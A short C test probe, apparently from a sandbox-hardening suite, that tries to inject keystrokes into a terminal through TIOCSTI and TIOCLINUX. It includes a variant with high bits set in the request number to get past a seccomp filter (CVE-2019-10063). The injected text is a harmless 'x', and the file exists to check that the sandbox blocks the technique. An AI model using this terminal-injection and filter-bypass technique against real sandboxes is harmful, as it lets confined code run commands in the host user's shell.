/* Types into a terminal, so that whoever started the sandbox would run what was typed; with a request whose upper half is not
 * zero as well, which a filter that compares 64 bits lets through (CVE-2019-10063).
 * goal: a character typed into a terminal
 * stopped by: the system call filter; no descriptor is a terminal of the host's, and there is no controlling one
 * first: seccomp
 * second: -
 * alone: into a terminal of its own making it may type what it likes, and there is no other
 */
#include "attack.h"
int main(void) {
    setsid();
    int own = open("/dev/ptmx", O_RDWR);
    if (own < 0 || ioctl(own, TIOCSPTLCK, &(int){ 0 })) return 2;
    int number = 0;
    ioctl(own, TIOCGPTN, &number);
    char path[64];
    sprintf(path, "/dev/pts/%d", number);
    int other = open(path, O_RDWR);
    if (other < 0) return 2;
    ioctl(other, TIOCSCTTY, 1);
    for (int fd = 0; fd < 16; fd++) {
        if (!isatty(fd)) continue;
        if (fd < 3) reached("descriptor %d is a terminal", fd);
        TRY("TIOCSTI", ioctl(fd, TIOCSTI, "x"));
        TRY("TIOCSTI with an upper half", syscall(SYS_ioctl, fd, 0x12300000000UL | TIOCSTI, "x"));
        TRY("TIOCLINUX", ioctl(fd, TIOCLINUX, "\002"));
    }
    return tried();
}
